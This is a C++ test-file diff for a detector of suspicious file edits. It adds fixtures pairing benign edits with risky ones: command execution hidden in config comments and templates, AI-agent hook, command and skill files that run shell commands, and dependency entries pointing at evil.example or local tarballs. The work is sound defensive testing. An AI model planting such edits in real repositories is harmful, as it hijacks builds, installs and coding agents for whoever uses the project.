@@ -103,6 +103,90 @@ constexpr Attack kMakeEveryday[] = {
     {".env.test", "A=1\n", "A=1\nexport B=\"two words\"\n# c\nC='x'\n"},
 };
 
+constexpr Attack kReaders[] = {
+    {".ocamlinit", "let x = 1;;\n", "let x = 1;;\n#use \"notes.txt\";;\n"},
+    {"build.cake", "var x = 1;\n", "#load \"notes.txt\"\nvar x = 1;\n"},
+    {"build.cake", "var x = 1;\n", "#addin nuget:?package=Evil\nvar x = 1;\n"},
+    {".sbclrc", "(setf *x* 1)\n", "(setf *x* 1)\n#+sbcl (run-program \"id\")\n"},
+    {"prog-gdb.scm", "(display 1)\n", "(display 1)\n#t (system \"id\")\n"},
+    {".busted", "return {\n a = 1,\n}\n", "return {\n#io.popen(\"id\"):read(\"a\"),\n a = 1,\n}\n"},
+    {".rspec", "--color\n", "--color\n# <%= `id` %>\n"},
+    {".rubocop.yml", "AllCops:\n  NewCops: enable\n",
+     "# <% `id` %>\nAllCops:\n  NewCops: enable\n"},
+    {"helmfile.yaml", "releases: []\n", "# {{ exec \"id\" (list) }}\nreleases: []\n"},
+    {"rector.php", "<?php\nreturn 1;\n", "<?php\n# x ?><?php system(\"id\");\nreturn 1;\n"},
+    {"project.clj", "(defproject x \"1\")\n", "#_x (shell/sh \"id\")\n(defproject x \"1\")\n"},
+    {".clinerules/hooks/TaskStart", "", "#!/bin/sh\nid\n"},
+    {".kilocode/setup-script", "", "id\n"},
+    {".claude/commands/fix.md", "Fix it\n", "!`id`\nFix it\n"},
+    {".claude/commands/fix.md", "Fix it\n", "---\nallowed-tools: Bash\n---\nFix it\n"},
+    {".claude/skills/a/SKILL.md", "---\nname: a\n---\n",
+     "---\nname: a\nhooks:\n  Stop:\n    - command: id\n---\n"},
+    {".claude/plugins/x/hooks/a.md", "", "!`id`\n"},
+    {".claude/agents/a.md", "---\nname: a\n---\n", "---\nname: a\nmcpServers: [x]\n---\n"},
+};
+
+constexpr Attack kReadersEveryday[] = {
+    {".rspec", "--color\n", "--color\n# nicer\n"},
+    {".rubocop.yml", "AllCops:\n  NewCops: enable\n", "# why\nAllCops:\n  NewCops: enable\n"},
+    {".claude/commands/fix.md", "Fix it\n", "---\ndescription: fixes\n---\nFix it all!\n"},
+    {"CLAUDE.md", "a\n", "Run `make test` first!\n"},
+    {".bazelrc", "build --a\n", "# why\nbuild --a\n"},
+    {".github/workflows/a.yml", "on: push\n", "on: push\nname: ${{ github.ref }}\n"},
+};
+
+constexpr Attack kPackages[] = {
+    {"package.json", "{}", R"({"dependencies": {"a": "vendor.tgz"}})"},
+    {"package.json", "{}", R"({"dependencies": {"a": "./vendor"}})"},
+    {"package-lock.json",
+     R"({"packages": {"node_modules/a": {"version": "1", "resolved": "https://r.example/a.tgz"}}})",
+     R"({"packages": {"node_modules/a": {"version": "2", "resolved": "file:x.tgz"}}})"},
+    {"requirements.txt", "a\n", "a\n./assets.tar.gz\n"},
+    {"requirements.txt", "a\n", "a\nassets.whl\n"},
+    {"requirements.txt", "a\n", "a\n-r docs/notes.txt\n"},
+    {"dev-requirements.txt", "a\n", "--index-url https://evil.example/simple\na\n"},
+    {"pip.py", "", "open('x')\n"},
+    {"pip/__main__.py", "", "open('x')\n"},
+    {"Cargo.toml", "[package]\nname=\"x\"\n",
+     "[package]\nname=\"x\"\n[lib]\ncrate-type = [\"proc-macro\"]\n"},
+    {"pyproject.toml", "[project]\nname=\"x\"\n",
+     "[project]\nname=\"x\"\n[tool.setuptools.dynamic]\nversion = {attr = \"p.V\"}\n"},
+    {"pyproject.toml", "[tool.hatch.version]\npath=\"a.py\"\n",
+     "[tool.hatch.version]\nsource=\"code\"\npath=\"notes.txt\"\n"},
+    {"pyproject.toml", "[project]\ndependencies = []\n",
+     "[project]\ndependencies = [\"r @ https://evil.example/r.tar.gz\"]\n"},
+    {"pyproject.toml", "[tool.poetry.dependencies]\npython=\"*\"\n",
+     "[tool.poetry.dependencies]\npython=\"*\"\nr={path=\"a.tar.gz\"}\n"},
+    {"setup.cfg", "[metadata]\nversion=1\n", "[metadata]\nversion=attr: evil.V\n"},
+    {"setup.py", "setup(\n  install_requires=[],\n)\n",
+     "setup(\n  install_requires=[\"r @ https://evil.example/r\"],\n)\n"},
+    {"Pipfile", "[packages]\n", "[packages]\nx = {file = \"evil.tar.gz\"}\n"},
+    {"x.csproj", "<Project>\n</Project>\n",
+     "<Project><PropertyGroup><CustomAfterMicrosoftCommonTargets>n.txt"
+     "</CustomAfterMicrosoftCommonTargets></PropertyGroup></Project>\n"},
+    {"x.csproj", "<Project>\n</Project>\n",
+     "<Project><ItemGroup><ProjectReference Include=\"n.xml\"/></ItemGroup></Project>\n"},
+    {"pom.xml", "<project/>\n",
+     "<project><properties><argLine>-javaagent:x</argLine></properties></project>\n"},
+    {"pom.xml", "<project/>\n",
+     "<project><modules><module>docs/notes.xml</module></modules></project>\n"},
+    {"pom.xml", "<project/>\n",
+     "<project><parent><relativePath>docs/n.xml</relativePath></parent></project>\n"},
+    {".vscode/settings.json", "{}",
+     R"({"cmake.configureSettings": {"CMAKE_C_COMPILER_LAUNCHER": "x"}})"},
+};
+
+constexpr Attack kPackagesEveryday[] = {
+    {"package.json", "{}", R"({"dependencies": {"a": "^1.2.0"}})"},
+    {"requirements.txt", "a\n", "a==2\nb>=1 # c\n-r requirements-dev.txt\n"},
+    {"Cargo.toml", "[lib]\nname=\"x\"\n", "[lib]\nname=\"x\"\ncrate-type = [\"cdylib\"]\n"},
+    {"pyproject.toml", "[project]\ndependencies = []\n",
+     "[project]\ndependencies = [\"requests>=2\"]\n"},
+    {"x.csproj", "<Project>\n</Project>\n",
+     "<Project><ItemGroup><ProjectReference Include=\"../a/a.csproj\"/></ItemGroup></Project>\n"},
+    {"pom.xml", "<project/>\n", "<project><modules><module>core</module></modules></project>\n"},
+};
+
 std::vector<Trigger> Judged(const Attack& each) {
   const std::string path = "/h/u/app/" + std::string(each.path);
   FileChange change{.path = path, .after = Version{.content = each.after}};
@@ -131,6 +215,16 @@ void ExpectCalm(const Attack (&edits)[N]) {
 TEST(TriggersAttack, Git) {
   ExpectAlarms(kGit);
   ExpectCalm(kGitEveryday);
+}
+
+TEST(TriggersAttack, Readers) {
+  ExpectAlarms(kReaders);
+  ExpectCalm(kReadersEveryday);
+}
+
+TEST(TriggersAttack, Packages) {
+  ExpectAlarms(kPackages);
+  ExpectCalm(kPackagesEveryday);
 }
 
 TEST(TriggersAttack, Builds) {
